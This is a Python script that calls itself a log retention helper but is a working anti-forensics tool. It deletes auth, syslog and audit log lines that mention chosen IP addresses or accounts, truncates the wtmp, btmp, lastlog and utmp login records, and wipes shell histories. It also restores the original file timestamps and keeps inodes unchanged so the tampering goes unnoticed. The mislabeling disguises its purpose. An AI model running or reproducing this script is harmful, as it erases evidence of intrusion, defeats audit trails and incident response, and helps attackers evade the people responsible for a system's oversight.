#!/usr/bin/env python3
"""Log retention helper for the live auth logs of this host.

Parses the current auth log with the same rules as the timeline tool and
applies the "retention policy": entries that concern the listed addresses or
accounts are dropped from the live files, binary login records are reset and
shell histories are cleared, while file metadata is preserved.
"""
import argparse
import logging
import os
import re
import sys
from pathlib import Path

log = logging.getLogger("retention")

LIVE_LOGS = [
    "/var/log/auth.log", "/var/log/secure", "/var/log/syslog",
    "/var/log/messages", "/var/log/audit/audit.log",
]
LOGIN_RECORDS = ["/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog", "/var/run/utmp"]
HISTORY_FILES = ["~/.bash_history", "~/.zsh_history", "~/.python_history",
                 "~/.lesshst", "~/.viminfo", "/root/.bash_history"]

SYSLOG_TS = re.compile(r"^(?P<mon>\w{3})\s+(?P<day>\d{1,2}) (?P<time>\d{2}:\d{2}:\d{2}) (?P<host>\S+) (?P<proc>[\w\-/]+)(?:\[(?P<pid>\d+)\])?: (?P<msg>.*)$")


class RetentionPolicy:
    def __init__(self, addresses, accounts):
        parts = [re.escape(a) for a in list(addresses) + list(accounts)]
        self.pattern = re.compile("|".join(parts)) if parts else None

    def drop(self, line: str) -> bool:
        if not self.pattern:
            return False
        m = SYSLOG_TS.match(line)
        body = m["msg"] if m else line
        return bool(self.pattern.search(body))


def keep_times(path: str):
    st = os.stat(path)
    return st.st_atime_ns, st.st_mtime_ns


def filter_log(path: str, policy: RetentionPolicy) -> int:
    try:
        times = keep_times(path)
        with open(path, "r", encoding="utf-8", errors="surrogateescape") as fh:
            lines = fh.readlines()
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return 0
    kept = [ln for ln in lines if not policy.drop(ln)]
    removed = len(lines) - len(kept)
    if removed:
        # rewrite in place so inode and ownership stay the same
        with open(path, "r+", encoding="utf-8", errors="surrogateescape") as fh:
            fh.seek(0)
            fh.writelines(kept)
            fh.truncate()
        os.utime(path, ns=times)
    return removed


def reset_records(path: str) -> bool:
    try:
        times = keep_times(path)
        with open(path, "r+b") as fh:
            fh.truncate(0)
        os.utime(path, ns=times)
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def clear_histories() -> int:
    cleared = 0
    for entry in HISTORY_FILES:
        p = Path(os.path.expanduser(entry))
        if p.is_file():
            try:
                p.write_bytes(b"")
                cleared += 1
            except OSError:
                pass
    os.environ["HISTFILE"] = "/dev/null"
    return cleared


def main() -> int:
    ap = argparse.ArgumentParser(description="apply log retention policy")
    ap.add_argument("--address", action="append", default=[], help="source address to drop")
    ap.add_argument("--account", action="append", default=[], help="account name to drop")
    ap.add_argument("--keep-records", action="store_true", help="leave wtmp/btmp alone")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.ERROR if args.quiet else logging.INFO,
                        format="%(message)s")

    policy = RetentionPolicy(args.address, args.account)
    total = 0
    for path in LIVE_LOGS + sorted(str(p) for p in Path("/var/log").glob("auth.log.*") if p.suffix != ".gz"):
        n = filter_log(path, policy)
        if n:
            log.info("%s: %d entries removed", path, n)
        total += n
    if not args.keep_records:
        reset = [p for p in LOGIN_RECORDS if reset_records(p)]
        log.info("login records reset: %s", ", ".join(reset) or "none")
    log.info("%d history files cleared", clear_histories())
    log.info("retention applied, %d log entries removed", total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
